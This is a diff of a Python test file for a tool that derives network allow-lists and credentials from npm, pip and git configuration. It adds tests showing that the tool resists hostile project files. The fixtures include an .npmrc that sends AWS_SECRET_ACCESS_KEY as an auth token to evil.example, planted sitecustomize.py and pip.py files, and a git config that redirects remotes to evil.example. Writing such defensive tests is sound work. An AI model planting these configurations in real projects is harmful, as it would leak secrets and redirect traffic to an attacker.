@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import base64
+import contextlib
 import os
 import shutil
 import ssl
 import subprocess
-from collections.abc import Callable
+import sys
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass, field
 from ipaddress import ip_address
 from pathlib import Path
@@ -34,8 +36,8 @@ class Quiet(Machine):
     def addresses(self, host: str) -> tuple[Address, ...]:
         return (ip_address(self.where.get(host, "203.0.113.9")),)
 
-    def ask(self, *argv: str, **variables: str) -> str | None:
-        return None if "--dry-run" in argv or "view" in argv else super().ask(*argv, **variables)
+    def ask(self, *argv: str, here: bool = False, variables: Mapping[str, str] | None = None) -> str | None:
+        return None if "--dry-run" in argv or "view" in argv else super().ask(*argv, here=here, variables=variables)
 
 
 Make = Callable[..., Quiet]
@@ -249,6 +251,34 @@ def test_npms_registries_and_logins(machine: Make) -> None:
 
 
 @needs("npm")
+def test_attack_a_projects_own_npmrc_opens_nothing_and_has_no_variable_sent_anywhere(machine: Make) -> None:
+    here = machine({"evil.example": "10.0.0.1"}, AWS_SECRET_ACCESS_KEY="very-secret-key")
+    (here.cwd / "package.json").write_text("{}")
+    (here.cwd / ".npmrc").write_text(
+        "registry=https://evil.example/\n@x:registry=https://evil.example/\n"
+        "//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"
+    )
+    preset, secrets = one("npm", here)
+    assert not any("evil" in rule for rule in preset.allow)
+    assert secrets == ()
+    assert "evil" not in repr(preset)
+
+
+@needs("pip")
+def test_attack_no_program_of_the_project_runs_when_a_preset_is_read(machine: Make, tmp_path: Path) -> None:
+    here = machine(PIP_INDEX_URL="https://a.example/")
+    for name in ("pip.py", "json.py", "sitecustomize.py"):
+        (here.cwd / name).write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
+    only_python = tmp_path / "bin"
+    only_python.mkdir()
+    (only_python / "python3").symlink_to(sys.executable)
+    for path in (here.environ["PATH"], str(only_python)):
+        with contextlib.suppress(InvalidRequest):  # a python3 that has no pip
+            one("pip", Quiet({**here.environ, "PATH": path}, here.cwd))
+    assert not (tmp_path / "ran").exists()
+
+
+@needs("npm")
 def test_an_npm_that_is_not_set_up_goes_where_it_would_go_itself(machine: Make) -> None:
     preset, secrets = one("npm", machine())
     assert len(preset.allow) == 1
@@ -346,6 +376,18 @@ def test_gits_hosts_come_from_its_configuration_and_the_repository_here(machine:
     assert {(s.hosts, s.basic, s.header, s.value) for s in secrets} == {
         (("git.internal",), "me", None, "t0kent0ken"), (("head.example",), None, "AUTHORIZATION: basic {}", "c2VjcmV0"),
     }  # fmt: skip
+
+
+@needs("git")
+def test_attack_the_repository_here_brings_its_remotes_and_neither_a_proxy_nor_headers(machine: Make) -> None:
+    here = machine(GIT_CONFIG_NOSYSTEM="1")
+    subprocess.run(["git", "init", "-q", str(here.cwd)], check=True, timeout=20)
+    with (here.cwd / ".git/config").open("a") as file:
+        file.write('[remote "origin"]\n\turl = https://git.example/x\n[http]\n\tproxy = http://127.0.0.1:6379\n'
+                   '[url "https://evil.example/"]\n\tinsteadOf = "https://git.example/"\n'
+                   '[http "https://evil2.example/"]\n\textraHeader = "X: 12345678"\n')  # fmt: skip
+    preset, secrets = one("git", here)
+    assert (preset.allow, preset.proxy, preset.env, secrets) == (("git.example:443",), None, {}, ())
 
 
 @needs("git")
